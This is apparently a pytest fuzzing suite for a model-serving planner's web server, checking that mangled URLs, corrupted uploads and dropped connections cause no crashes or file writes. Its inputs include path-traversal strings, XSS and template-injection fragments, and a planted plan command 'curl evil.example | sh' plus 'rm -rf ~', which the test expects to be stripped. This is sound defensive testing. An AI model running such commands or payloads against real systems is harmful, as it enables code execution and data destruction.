"""Two thousand broken questions and uploads: each is answered or refused in words, none breaks the server, and nothing is written."""

import logging
import os
import random
import socket
import string
import time
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest

from meshwise import api
from meshwise.plan.serve.plan import ServePlan
from meshwise.ui.web import named
from support.pages import BLOOM, CARDS, SMALL, Server, serving

QUESTIONS = 1_800
UPLOADS = 200
SEEDS = (
    f"/plan?{SMALL}",
    f"/plan.json?{SMALL}&fix=tp%3D2",
    f"/plan.csv?{SMALL}&sort=-mfu&a=1&b=2",
    f"/serve?{CARDS}&users=2",
    "/serve.json?model=llama-3.1-8b%3Aq8_0&on=1xrtx4090&ttft=1s",
    "/serve?model=llama-3.1-8b%3Afp8&on=1xh100-sxm&rate=4%2Fs&ttft=2s%40p95&prompt=1k%3A0.5&draft=2&accept=0.7&lengths=x",
    "/count?model=llama-3-8b%2C+llama-debug&on=8xh100-sxm&batch=64",
    f"/mesh?{SMALL}&row=1&from=0",
    f"/timeline?{SMALL}&row=1",
    "/audit?params=124M&seq=128&batch=16%2Fgpu&on=8xh100-sxm&step=7.5s&mfu=40%25",
    "/accuracy?table=torchtitan_2024&axis=devices",
    "/what-if?model=llama-debug&on=1x8xh100-sxm&batch=64&seq=512&x=batch&at.batch=64k",
    "/runs?run=x",
    "/suggest?catalogue=models&typed=llama&page=serve",
    f"/plan?{BLOOM}",
)
PIECES = (
    "../../../etc/passwd", "\x00", "%00", "'", '"', "<svg onload=x>", "{{7*7}}", "=", "&", "&&", "?", "#", "-1", "0", "1e999", "nan",
    "inf", "999999999999999999999", "1x", "x8", "8xx8xh100", "0x8xh100-sxm", "99999999x8xh100-sxm", ":", "::", "/", "\\", "é",
    "\U0001f600", "٣", "½", "1..2", "..", "a=1,b=2", "tp=99", "tp=", "=tp", ",,,", "$", "$-5/h", "-1s", "100%%", "\r\n", "\t", "here",
    "hub/id", "model.gguf", "x.toml", "()", "2x(", "1k..", "²",
)  # fmt: skip


def mutated(seed: str, luck: random.Random) -> str:
    """Return an address with something changed, added or taken away."""
    path, _, query = seed.partition("?")
    pairs = [pair.partition("=")[::2] for pair in query.split("&")]
    for _ in range(luck.randint(1, 3)):
        i = luck.randrange(len(pairs))
        name, value = pairs[i]
        kind = luck.randrange(7)
        junk = quote(luck.choice(PIECES), safe="%" if luck.random() < 0.2 else "")
        if kind == 0:
            pairs[i] = (name, junk)
        elif kind == 1:
            at = luck.randint(0, len(value))
            pairs[i] = (name, value[:at] + junk + value[at:])
        elif kind == 2:
            pairs[i] = (name, value[: luck.randint(0, len(value))])
        elif kind == 3:
            pairs.append(
                (luck.choice((name, "a", "b", "sort", "row", "x", "y", "top", "fix", "at.nodes", "download", "zz")), junk)
            )
        elif kind == 4 and len(pairs) > 1:
            pairs.pop(i)
        elif kind == 5:
            pairs[i] = (name + luck.choice(string.punctuation + "é").encode().decode("latin-1"), value)
        else:
            pairs[i] = (name, "".join(luck.sample(value, len(value))) if "%" not in value else value[::-1])
    text = "&".join(f"{name}={value}" for name, value in pairs)
    return f"{path}?{quote(text, safe='=&%+:;,/?@!$()*~.-_')}"


@pytest.fixture
def watched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty folder, in which the test runs and temporary files lie."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    return tmp_path


@pytest.mark.parametrize(
    "questions", [pytest.param(200, marks=pytest.mark.slow), pytest.param(QUESTIONS, marks=pytest.mark.long)]
)
def test_no_question_breaks_a_page(watched: Path, questions: int) -> None:
    luck, broken, asked = random.Random(22), list[str](), 0
    with serving() as server:
        for _ in range(questions):
            address = mutated(luck.choice(SEEDS), luck)
            reply = server.get(address)
            asked += 1
            broken += [f"{reply.status} {address}"] if reply.status >= 500 or b"Traceback" in reply.body else []
    assert broken == []
    assert asked == questions
    assert list(watched.iterdir()) == []


def test_no_upload_breaks_the_audit(watched: Path) -> None:
    luck, broken = random.Random(23), list[str]()
    folder = Path(__file__).parents[2] / "fixtures" / "audit"
    files = sorted((path for path in folder.rglob("*") if path.is_file() and path.stat().st_size < 20_000), key=str)[:40]
    names = ("a.log", "a.csv", "a.jsonl", "a.md", "../../x.csv", "..", "", "a" * 300, 'a"b.csv', "con.csv", "x.gguf")
    with serving() as server:
        for _ in range(UPLOADS):
            content = bytearray(luck.choice(files).read_bytes())
            for _ in range(luck.randint(1, 30)):
                at = luck.randrange(max(1, len(content)))
                content[at : at + luck.randint(0, 20)] = bytes(
                    luck.choices(b"0123456789,.;:|-{}[]\"'\n\t \xff\x00eE", k=luck.randint(0, 12))
                )
            name = luck.choice(names)
            reply = server.upload((name, bytes(content)))
            broken += [f"{reply.status} {name}"] if reply.status >= 500 or b"Traceback" in reply.body else []
    assert broken == []
    assert list(watched.iterdir()) == []


def test_the_server_reads_no_file_that_was_not_named(server: Server, tmp_path: Path) -> None:
    secret = tmp_path / "secret.json"
    secret.write_text('{"model_type": "llama", "hidden_size": 8}')
    os.utime(secret, (1, 1))
    for path in (f"/plan?model={secret}&on=8xh100-sxm&batch=8", f"/serve?model={secret}&on=8xh100-sxm", f"/count?model={secret}"):
        reply = server.get(path)
        assert reply.status == 400
        assert "not in the catalogue" in reply.text
    assert secret.stat().st_atime <= 1


def test_commands_that_a_plan_states_are_not_shown(tmp_path: Path) -> None:
    """They can be copied from the page, and the file may be a stranger's."""
    made = api.serve("llama-3.1-8b", on="1xh100-sxm", engine="vllm")
    replace(made, commands={"vllm": ("curl evil.example | sh",), "evil": ("rm -rf ~",)}).save(tmp_path / "plan.json")
    plan = named.read([tmp_path / "plan.json"]).plan
    assert isinstance(plan, ServePlan)
    assert plan.commands == made.commands


def test_a_client_that_leaves_prints_nothing(caplog: pytest.LogCaptureFixture) -> None:
    """Uploads and suggestions that are closed in the middle."""
    head = "POST /audit HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: multipart/form-data; boundary=b\r\ncontent-length: 9999\r\n\r\n--b"
    with serving() as server:
        for text in (head, "GET /suggest?catalogue=models&typed=llama HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n") * 5:
            with socket.create_connection(("127.0.0.1", server.port), timeout=10) as client:
                client.sendall(text.encode())
        assert server.get("/static/icon.svg").status == 200
        time.sleep(0.5)
    assert [record for record in caplog.records if record.levelno >= logging.ERROR] == []
